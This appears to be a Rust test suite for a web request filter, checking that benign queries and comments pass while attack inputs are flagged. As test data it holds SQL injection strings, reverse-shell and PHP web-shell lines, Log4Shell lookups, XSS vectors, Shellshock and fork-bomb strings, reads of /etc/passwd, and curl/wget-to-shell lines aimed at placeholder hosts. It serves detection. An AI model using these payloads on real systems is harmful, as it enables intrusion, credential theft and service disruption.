        "/?x=spawn(%27sh%27,%5B%27-c%27,%27id%27%5D)",
        "/?x=%25x(id)",
        "/?x=qx%7Bid%7D",
        "/?x=x))(%7C(uid%3D*",
    ] {
        assert!(rule_for(target).is_some(), "{target}");
    }
    for benign in [
        "/?q=%27a%27+%2B+%27b%27+in+js",
        "/?q=50%25x(2)",
        "/?q=the+qx+series",
        "/?q=spawn+point+(sh)",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
}

/// A boolean and a constant after a closed string is a condition when SQL
/// can go on from there; a quote then a word is a measure (feet, inches).
#[test]
fn measures_in_feet_and_inches_are_no_tautology() {
    for benign in [
        "/?q=5%27+or+6%27+ladder",
        "/?q=8%27+or+10%27+extension+cord",
        "/?q=1%2F2%22+or+3%2F4%22+pipe+fittings",
        "/?q=6%22+and+8%22+cake+pans",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
    for target in [
        "/?id=x%27+or+1%3D%271",
        "/?id=x%27+or+1--",
        "/?id=x%27+or+1+%23",
        "/?id=x%27+or+1%27%3D%271",
        "/?id=x%27+or+1%27",
        "/?id=x%22+or+true--",
        "/?id=x%27+and+0%27+%23",
    ] {
        let rule = rule_for(target).unwrap_or("none");
        assert!(
            rule.starts_with("sqli-") || rule.starts_with("libinjection"),
            "{target}: {rule}"
        );
    }
}

/// By default a fenced block is Markdown, not the shell's backtick: code
/// in another language passes, and a line that is a command line, a code
/// span, a template literal's `${...}` or `<?php` is still refused.
#[test]
fn fenced_code_blocks_are_read_line_by_line() {
    const JSON: &str = "application/json";
    for text in [
        r"Python:\n\n```python\nimport os\nprint(os.path.join('a', 'b'))\n```",
        r"```rust\nfn main() {\n    println!(\u0022{}\u0022, 1);\n}\n```\n\nPrints one.",
        r"My compose file:\n\n```yaml\nservices:\n  web:\n    image: nginx\n    ports:\n      - \u002280:80\u0022\n```",
        r"Install:\n\n```bash\ncargo install acme-cli\n```",
        r"```python\ntop = rows[0]\ndate = datetime.now()\n```",
    ] {
        let body = format!(r#"{{"comment": "{text}"}}"#);
        assert_eq!(post_rule(JSON, &body), None, "{text}");
    }
    for text in [
        r"Here is my code:\n```python\nid\n```",
        r"```python\nps aux\n```\nthanks a lot",
        r"```js\ncat .env\n```",
        r"```\nid -u\n```\nok",
        r"see\n```text\nncat 1.2.3.4 4444 -e sh\n```",
        r"see\n```sh\nsocat tcp-connect:10.0.0.1:4444 exec:bash,pty\n```",
        r"see\n```py\npython3 -c 'import os; os.system(1)'\n```",
        r"see\n```\nnode -e 'require(1)'\n```",
        r"see\n```js\n${require('child_process').execSync('id')}\n```",
        r"see\n```php\n<?php system($_GET['c']); ?>\n```",
        r"```js\nlet x = 1;\n```\nand then `id` please",
        r"```js\nlet x = 1;\n```\nthen x; cat /etc/passwd",
        r"```js\nx\n```\n' union select password from users--",
    ] {
        let body = format!(r#"{{"comment": "{text}"}}"#);
        assert!(post_rule(JSON, &body).is_some(), "{text}");
    }
}

/// A picture as a `data:` URI (an editor's pasted image, an avatar) is no
/// script; anything else in a `data:` URI still is.
#[test]
fn raster_images_in_data_uris_pass() {
    const JSON: &str = "application/json";
    const PNG: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    assert_eq!(post_rule(JSON, &format!(r#"{{"avatar": "{PNG}"}}"#)), None);
    let html = format!(r#"{{"html": "<p><img src=\"{PNG}\"></p>"}}"#);
    assert_eq!(post_rule(JSON, &html), None);
    for value in [
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/png;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    ] {
        let body = format!(r#"{{"avatar": "{value}"}}"#);
        assert!(post_rule(JSON, &body).is_some(), "{value}");
    }
    let both = format!(r#"{{"a": "{PNG} data:text/html;base64,PHNjcmlwdD4="}}"#);
    assert!(post_rule(JSON, &both).is_some());
    let include = format!(r#"{{"include_path": "{PNG}"}}"#);
    assert!(post_rule(JSON, &include).is_some());
    // A picture that carries code behind its signature (a polyglot), in
    // a body, and any picture in a query string (a file to include:
    // `?page=data:…`), in every case of the scheme.
    use base64::Engine as _;
    let png_head =
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89";
    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    for code in [
        &b"<?php system($_GET['c']); ?>"[..],
        b"<?= system($_GET[c]) ?>",
        b"<ScRiPt>alert(1)</script>",
        b"<svg\nonload=alert(1)>",
        b"<img src=x onerror=alert(1)>",
        b"${jndi:ldap://x/a}",
        b"${${lower:j}ndi:ldap://x/a}",
    ] {
        let poly = b64(&[&png_head[..], &[0u8; 32], code].concat());
        // As sent, wrapped at 76 columns (MIME), with a space, and as a
        // padded picture followed by the code's own base64.
        let wrapped: Vec<&str> = poly
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        for spelled in [
            poly.clone(),
            wrapped.join("\\n"),
            wrapped.join("\\r\\n"),
            wrapped.join(" "),
            format!("{}{}", b64(&[&png_head[..], b"A"].concat()), b64(code)),
        ] {
            let body = format!(r#"{{"avatar": "data:image/png;base64,{spelled}"}}"#);
            assert!(
                post_rule(JSON, &body).is_some(),
                "{}: {spelled}",
                String::from_utf8_lossy(code)
            );
        }
    }
    for scheme in ["data", "DATA"] {
        let uri = format!(
            "/w?page={}",
            PNG.replacen("data", scheme, 1).replace('+', "%2B").replace('/', "%2F")
        );
        assert!(rule_for(&uri).is_some(), "{uri}");
    }
}

/// A timer given a function runs no string; one given a string, a
/// variable or a call's result still is a script sink.
#[test]
fn timers_given_functions_pass() {
    for benign in [
        "/?c=t+%3D+setTimeout(()+%3D%3E+fn(...args)%2C+ms)%3B",
        "/?c=setInterval(function+(n)+%7B+step(n)%3B+%7D%2C+1000)",
        "/?c=setTimeout(async+x+%3D%3E+load(x))",
    ] {
        assert_eq!(rule_for(benign), None, "{benign}");
    }
    for target in [
        "/?c=setTimeout(%27alert(1)%27)",
        "/?c=setTimeout(name)",
        "/?c=setTimeout(atob(%27YWxlcnQoMSk%27))",
        "/?c=setTimeout(()+%3D%3E+1)%3BsetTimeout(location.hash.slice(1))",
    ] {
        assert!(rule_for(target).is_some(), "{target}");
    }
}

/// A code span or block is a template literal to JavaScript: its `${...}`
/// run, with `markdown_prose` on too.
#[test]
fn template_substitutions_in_quoted_code_are_read() {
    const JSON: &str = "application/json";
    for text in [
        r"Nice post, see this:\n```js\n${require('child_process').execSync('id')}\n```",
        r"Nice post, thanks a lot `${process.mainModule.require('fs')}` again",
    ] {
        let body = format!(r#"{{"comment": "{text}"}}"#);
        assert!(post_rule_markdown(JSON, &body).is_some(), "{text}");
        assert!(post_rule(JSON, &body).is_some(), "{text}");
    }
}

/// Code of other languages the shell cannot parse (`ls = os.listdir()`,
/// `fn main() {`): a `(` glued after a word that is not a command's first
/// is a syntax error, and a shell runs nothing of such a line or
/// substitution. Shellshock's `() {` opens a value (or follows `=` or a
/// quote), and a function is defined in a command's place.
#[test]
fn code_the_shell_cannot_parse_passes() {
    const JSON: &str = "application/json";
    for text in [
        "Thanks! The key was `ls = os.listdir(folder)` instead of `glob`.",
        "Every Rust binary starts at `fn main() {}`, and a library has none.",
        "In Kotlin: `fun main() { println(1) }` and in Go `func main() { run() }`.",
        "fn main() {\n    let args = std::env::args();\n}",
    ] {
        let body = format!(r#"{{"comment": {}}}"#, serde_json::to_string(text).unwrap());
        assert_eq!(post_rule(JSON, &body), None, "{text}");
    }
    // A Dockerfile's `CMD [...]` runs no Windows command line.
    let dockerfile = "```dockerfile\nFROM node:20\nRUN npm ci\nCMD [\"node\", \"server.js\"]\n```";
    let body = format!(r#"{{"comment": {}}}"#, serde_json::to_string(dockerfile).unwrap());
    assert_eq!(post_rule(JSON, &body), None);
}

#[test]
fn shell_code_around_unparsable_pieces_is_found() {
    for target in [
        // Shellshock and fork bombs.
        "/?x=()%20%7B%20%3A%3B%20%7D%3B%20echo%20vulnerable",
        "/?x=env%20x%3D%27()%20%7B%20%3A%3B%7D%3B%20echo%20v%27%20bash%20-c%20x",
        "/?cmd=%3A()%7B%20%3A%7C%3A%26%20%7D%3B%3A",
        "/?cmd=x%3Bf()%7B%20f%7Cf%26%20%7D%3Bf",
        "/?cmd=%60function%20f()%20%7B%20f%7Cf%26%20%7D%60",
        // A parsable command beside an unparsable piece.
        "/?c=%60x%20%3D%20f(1)%60%3B%20cat%20/etc/passwd",
        "/?c=%60ls%20%3D%20f()%60%20%60wget%20http://x.example/a.sh%60",
        // Quotes, comments and `$(` make the shell read it another way.
        "/?c=%3Bcurl%20x.example/a%7Csh%20%23%20f()",
        "/?c=echo%20%22f()%22%3B%20wget%20http://x.example/a.sh",
        "/?c=%24(wget%20http://x.example/a.sh)%20f()",
        "/?c=cmd%20/c%20whoami",
    ] {
        assert!(rule_for(target).is_some(), "{target}");
    }
}
